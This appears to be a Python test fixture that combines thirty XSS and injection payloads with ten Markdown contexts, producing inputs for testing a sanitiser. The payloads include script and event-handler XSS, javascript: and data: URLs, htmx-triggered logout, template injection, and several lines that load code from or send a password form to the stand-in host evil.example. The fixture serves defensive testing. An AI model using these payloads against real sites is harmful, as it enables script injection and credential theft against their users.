"""Three hundred texts that try to become more than text: each thing to smuggle in each thing to hide it in."""

from itertools import product

# What would run, load, frame, send or look like Copse itself if it were taken as HTML or as an address.
SMUGGLED = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,alert(1)></object>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href=javascript:alert(1)>click</a>",
    "<details open ontoggle=alert(1)>",
    "<button hx-post=/account/logout/ hx-trigger=load>x</button>",
    "<div data-behaviour=composer data-hx-get=//evil.example hx-on::load=alert(1)>x</div>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><script>alert(1)</script>",
    "{{ 7|add:7 }}{% include 'base.html' %}{% csrf_token %}",
    "\"'><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "javascript:alert(1)",
    "JaVa&#115;cript&colon;alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/%0d%0aSet-Cookie:x=1",
]

# Where Markdown would take it as it is, as an address, a title, a name, or code.
HIDING = [
    "%s",
    "[press](%s)",
    "![seen](%s)",
    '[press](https://a.example "%s")',
    "<%s>",
    "[press][%n]\n\n[%n]: %s",
    "> # %s",
    "| a |\n|:-|\n| %s |",
    "```%s\n%s\n```",
    "*[**%s**](https://a.example)* `%s`",
]

# Any number of them make one text: what one of them names, no other one does.
ATTACKS = [
    hiding.replace("%n", str(number)).replace("%s", smuggled)
    for (number, smuggled), hiding in product(enumerate(SMUGGLED, start=1), HIDING)
]
